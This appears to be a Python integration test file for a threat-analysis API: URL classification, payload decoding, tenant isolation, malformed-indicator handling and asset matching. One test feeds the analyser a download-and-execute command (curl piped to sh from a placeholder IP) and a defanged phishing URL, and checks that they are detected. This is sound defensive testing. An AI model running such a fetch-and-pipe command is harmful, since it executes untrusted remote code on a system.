"""Threat analysis through the gateway: analyse, list, read, tenant isolation, malformed input."""

from __future__ import annotations

from typing import Any

import httpx2 as httpx

from tests.integration.conftest import assert_refused, bearer, register
from tests.integration.scanning import http_server
from tests.integration.test_incidents import Channels, scanned_host


def test_a_url_is_analysed_stored_listed_and_read(api: httpx.Client) -> None:
    account = register(api)
    headers = bearer(account["api_key"])
    reply = api.post(
        "/api/v1/threats/analyze",
        json={"target": "hxxp://paypa1-secure-login[.]xyz/webscr/verify.php", "metadata": {"case": "42"}},
        headers=headers,
    )
    assert reply.status_code == 201, reply.text
    analysis = reply.json()["data"]
    assert (analysis["type"], analysis["normalized"]) == (
        "url",
        "http://paypa1-secure-login.xyz/webscr/verify.php",
    )
    assert analysis["classification"] == "malicious"
    assert analysis["risk_score"] == min(100, sum(r["weight"] for r in analysis["reasons"]))
    assert "T1583.001" in analysis["attack"]
    assert analysis["metadata"] == {"case": "42"}
    listed = api.get("/api/v1/threats/analyses", headers=headers).json()["data"]["items"]
    assert [a["analysis_id"] for a in listed] == [analysis["analysis_id"]]
    read = api.get(f"/api/v1/threats/analyses/{analysis['analysis_id']}", headers=headers).json()["data"]
    assert read["reasons"] == analysis["reasons"]


def test_a_payload_is_decoded_and_its_indicators_extracted_defanged(api: httpx.Client) -> None:
    headers = bearer(register(api)["api_key"])
    payload = "curl -s http://192.0.2.44/x.sh | sh"
    reply = api.post("/api/v1/threats/analyze", json={"target": payload, "mode": "deep"}, headers=headers)
    data = reply.json()["data"]
    assert data["type"] == "payload"
    assert "yara:download_cradle" in {r["signal"] for r in data["reasons"]}
    assert {"type": "url", "value": "http://192.0.2.44/x.sh", "defanged": "hxxp://192[.]0[.]2[.]44/x[.]sh",
            "found_in": "payload"} in data["indicators"]  # fmt: skip


def test_another_tenant_gets_404_and_an_empty_list(api: httpx.Client) -> None:
    alice, bob = register(api), register(api)
    made = api.post(
        "/api/v1/threats/analyze", json={"target": "example.com"}, headers=bearer(alice["api_key"])
    )
    analysis_id = made.json()["data"]["analysis_id"]
    reply = api.get(f"/api/v1/threats/analyses/{analysis_id}", headers=bearer(bob["api_key"]))
    assert_refused(reply, 404, "NOT_FOUND")
    assert api.get("/api/v1/threats/analyses", headers=bearer(bob["api_key"])).json()["data"]["items"] == []


def test_a_malformed_indicator_is_400_invalid_indicator(api: httpx.Client) -> None:
    headers = bearer(register(api)["api_key"])
    for body in ({"target": "999.1.1.1"}, {"target": "not an address", "type": "ip"}, {"target": "http://"}):
        reply = api.post("/api/v1/threats/analyze", json=body, headers=headers)
        assert_refused(reply, 400, "INVALID_INDICATOR")


async def test_an_address_the_organisation_scanned_is_matched_in_its_assets(
    api: httpx.Client, channel_to: Channels
) -> None:
    """Scan a local listener, analyse 127.0.0.1: the asset and its open port are in the answer (and only
    for the organisation that scanned it)."""
    owner, other = register(api), register(api)
    with http_server() as port:
        scan_id = await scanned_host(api, channel_to, owner, port)

    def analyse(account: dict[str, str]) -> dict[str, Any]:
        reply = api.post(
            "/api/v1/threats/analyze", json={"target": "127.0.0.1"}, headers=bearer(account["api_key"])
        )
        assert reply.status_code == 201, reply.text
        return dict(reply.json()["data"])

    mine = analyse(owner)
    [match] = mine["asset_matches"]
    assert (match["host"], match["open_ports"], match["last_scan_id"]) == ("127.0.0.1", [port], scan_id)
    assert match["asset_id"].startswith("asset_")
    [reason] = [r for r in mine["reasons"] if r["signal"] == "seen_in_your_assets"]
    assert reason["weight"] == 0
    assert mine["risk_score"] == min(100, sum(r["weight"] for r in mine["reasons"]))
    read = api.get(f"/api/v1/threats/analyses/{mine['analysis_id']}", headers=bearer(owner["api_key"]))
    assert read.json()["data"]["asset_matches"] == mine["asset_matches"]
    theirs = analyse(other)
    assert theirs["asset_matches"] == []
    assert "seen_in_your_assets" not in {r["signal"] for r in theirs["reasons"]}
